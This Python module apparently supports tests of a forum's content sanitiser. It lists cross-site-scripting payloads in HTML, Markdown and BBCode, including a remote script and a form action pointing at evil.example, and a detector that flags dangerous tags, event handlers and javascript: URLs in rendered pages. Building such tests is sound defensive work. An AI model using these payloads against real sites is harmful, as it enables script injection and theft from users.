"""Texts that would run in a browser if anything let them, and what would show it."""

import re
from html.parser import HTMLParser

RUNS = "alert(1)"
FORBIDDEN = frozenset(
    (
        *("script", "style", "iframe", "object", "embed", "base", "form", "math", "svg", "link", "meta", "template"),
        *("input", "button", "textarea", "select", "frame", "frameset", "applet", "noscript", "title", "xmp"),
        *("plaintext", "marquee"),
    )
)
MEANS = frozenset(("srcdoc", "formaction", "xlink:href"))

TAGS = [
    f"<script>{RUNS}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>{RUNS}",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"<script\\x20type=text/javascript>{RUNS};</script>",
    f"<script/xss src=data:,{RUNS}></script>",
    f"<img src=x onerror={RUNS}>",
    f"<img src=x:{RUNS} onerror=eval(src)>",
    f'<img """><script>{RUNS}</script>">',
    f"<img src=x onerror\t=\t{RUNS}>",
    f"<img/src=`x`onerror={RUNS}>",
    f"<IMG SRC=JaVaScRiPt:{RUNS}>",
    f"<img src=java&#x0A;script:{RUNS}>",
    f"<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUNS}>",
    f"<svg/onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUNS}><text y=20>x</text></a></svg>",
    f'<math><a xlink:href="javascript:{RUNS}">x</a></math>',
    f"<math><mtext></p><style><img src=x onerror={RUNS}></style></mtext></math>",
    f"<math><mi//xlink:href=data:x,<script>{RUNS}</script>>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<form><button formaction=javascript:{RUNS}>x</button></form>",
    f"<form action=https://evil.example><input type=submit></form>{RUNS}",
    f"<iframe src=javascript:{RUNS}></iframe>",
    f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    f"<object data=javascript:{RUNS}></object>",
    f"<embed src=javascript:{RUNS}>",
    f"<base href=javascript:{RUNS}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>",
    f"<link rel=stylesheet href=javascript:{RUNS}>",
    f"<style>*{{background:url(javascript:{RUNS})}}</style>",
    f"<div style='background:url(javascript:{RUNS})'>x</div>",
    f"<div style='position:fixed;inset:0' onclick={RUNS}>x</div>",
    f"<details open ontoggle={RUNS}>",
    f"<details><summary onclick={RUNS}>x</summary></details>",
    f"<video src=x onerror={RUNS}></video>",
    f"<video><source onerror={RUNS}></video>",
    f"<video poster=javascript:{RUNS}></video>",
    f"<audio src=javascript:{RUNS} autoplay></audio>",
    f"<body onload={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<textarea autofocus onfocus={RUNS}>",
    f"<keygen autofocus onfocus={RUNS}>",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<template><script>{RUNS}</script></template>",
    f"<isindex action=javascript:{RUNS} type=submit>",
    f"<table background=javascript:{RUNS}><tr><td>x</td></tr></table>",
    f"<td style='text-align:left;background:url(javascript:{RUNS})'>x</td>",
    f"<p id=x class=fixed onmouseover={RUNS}>x</p>",
    f"<xmp><img src=x onerror={RUNS}></xmp>",
    f"<plaintext><img src=x onerror={RUNS}>",
    f"<!--><img src=x onerror={RUNS}>-->",
    f"<!--[if gte IE 4]><script>{RUNS}</script><![endif]-->",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    f"<?xml version='1.0'?><script>{RUNS}</script>",
    f"<a href=javascript:{RUNS}>x</a>",
    f"<a href='&#106;avascript:{RUNS}'>x</a>",
    f"<a href='java\tscript:{RUNS}'>x</a>",
    f"<a href=' javascript:{RUNS}'>x</a>",
    f"<a href='\\x01javascript:{RUNS}'>x</a>",
    f"<a href='vbscript:{RUNS}'>x</a>",
    f"<a href='data:text/html,<script>{RUNS}</script>'>x</a>",
    f"<a href='https://a.fr' target=_blank onclick={RUNS}>x</a>",
    f"<a name=x onfocus={RUNS} tabindex=1>x</a>",
    f"<ruby onclick={RUNS}>x</ruby>",
    f"<picture><source srcset=x onerror={RUNS}></picture>",
    f"<div data-x='\"><script>{RUNS}</script>'>x</div>",
    f"<span lang='\" onclick={RUNS} x=\"'>x</span>",
    f"<blockquote cite=javascript:{RUNS}>x</blockquote>",
    f"<del cite=javascript:{RUNS}>x</del>",
    f"<ol start='\"><script>{RUNS}</script>'><li>x</ol>",
]
MARKDOWN = [
    f"[x](javascript:{RUNS})",
    f"[x](JaVaScRiPt:{RUNS})",
    f"[x](javascript&colon;{RUNS})",
    f"[x](  javascript:{RUNS}  )",
    f"[x](<javascript:{RUNS}>)",
    f"[x](vbscript:{RUNS})",
    f"[x](data:text/html;base64,PHNjcmlwdD4= '{RUNS}')",
    f"[x]: javascript:{RUNS}\n\n[x]",
    f"<javascript:{RUNS}>",
    f'![x](x" onerror="{RUNS})',
    f'![x"onerror="{RUNS}](x.png)',
    f'![x](x.png "title" onerror="{RUNS}")',
    f'![x|1x1" onerror="{RUNS}](x.png)',
    f"![x](javascript:{RUNS})",
    f"![x|video](javascript:{RUNS})",
    f'![x|audio](x" onerror="{RUNS})',
    f'![x](upload://x" onerror="{RUNS}.png)',
    f"```<script>{RUNS}</script>```",
    f'```" onclick={RUNS} x="\nx\n```',
    f"# <img src=x onerror={RUNS}>",
    f'# x"><script>{RUNS}</script>',
    f"|<script>{RUNS}</script>|\n|---|\n|<img src=x onerror={RUNS}>|",
    f"[^1]\n\n[^1]: <script>{RUNS}</script>",
    f"^[<img src=x onerror={RUNS}>]",
    f'https://a.fr/"onclick={RUNS}',
    f"http://a.fr/<script>{RUNS}</script>",
]
BBCODE = [
    f'[quote="x\\" onmouseover={RUNS}"]\nx\n[/quote]',
    f'[quote="<script>{RUNS}</script>, post:1, topic:1"]\nx\n[/quote]',
    f'[quote="amina, post:"><script>{RUNS}</script>"]\nx\n[/quote]',
    f'[details="<img src=x onerror={RUNS}>"]\nx\n[/details]',
    f"[details=<script>{RUNS}</script>]\nx\n[/details]",
    f"[wrap=x onclick={RUNS}]\nx\n[/wrap]",
    f'[wrap=x "><script>{RUNS}</script>=y]\nx\n[/wrap]',
    f'[wrap=""><script>{RUNS}</script>"]x[/wrap]',
    f"[url=javascript:{RUNS}]x[/url]",
    f"[url]javascript:{RUNS}[/url]",
    f'[url=https://a.fr" onclick="{RUNS}]x[/url]',
    f"[img]javascript:{RUNS}[/img]",
    f'[img]https://a.fr/x.png" onerror="{RUNS}[/img]',
    f'[email]x"onclick={RUNS}@a.fr[/email]',
    f"[b]<script>{RUNS}</script>[/b]",
    f"[code]<script>{RUNS}</script>[/code]",
    f"[spoiler]<img src=x onerror={RUNS}>[/spoiler]",
    f'[date=2026-01-01" onclick="{RUNS}]',
    f"[date=<script>{RUNS}</script>]",
    f'[poll name="x" onclick={RUNS}"]\n* a\n[/poll]',
    f"[poll]\n# <script>{RUNS}</script>\n* <img src=x onerror={RUNS}>\n[/poll]",
    f'[poll results=""><script>{RUNS}</script>"]\n* a\n[/poll]',
    f'@amina"onclick={RUNS}',
    f'#annonces"><script>{RUNS}</script>',
    f':tada" onerror={RUNS}:',
    f"[ ]<script>{RUNS}</script> [x] x",
]
ATTACKS = [*TAGS, *MARKDOWN, *BBCODE]


class Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


# The square in a hashtag, which the forum draws and no post can.
OWN = ({"class": "fa d-icon d-icon-square-full svg-icon svg-node"}, {"href": "#square-full"})


def dangers(html: str) -> list[str]:
    """What in a page could run, or could cover it."""
    found = []
    for tag, attributes in Tags(html).found:
        if tag in ("svg", "use") and attributes in OWN:
            continue
        found += [tag] if tag in FORBIDDEN else []
        found += [
            name for name in attributes if name.startswith("on") or name in ("srcdoc", "formaction", "xlink:href")
        ]
        for name in ("href", "src", "cite", "poster", "background", "action"):
            value = re.sub(r"[\s\0-\x20]", "", attributes.get(name) or "").lower()
            found += [value] if value.startswith(("javascript:", "data:", "vbscript:")) else []
        style = attributes.get("style") or ""
        found += [style] if style and not re.fullmatch(r"text-align:(left|right|center)", style) else []
    return found
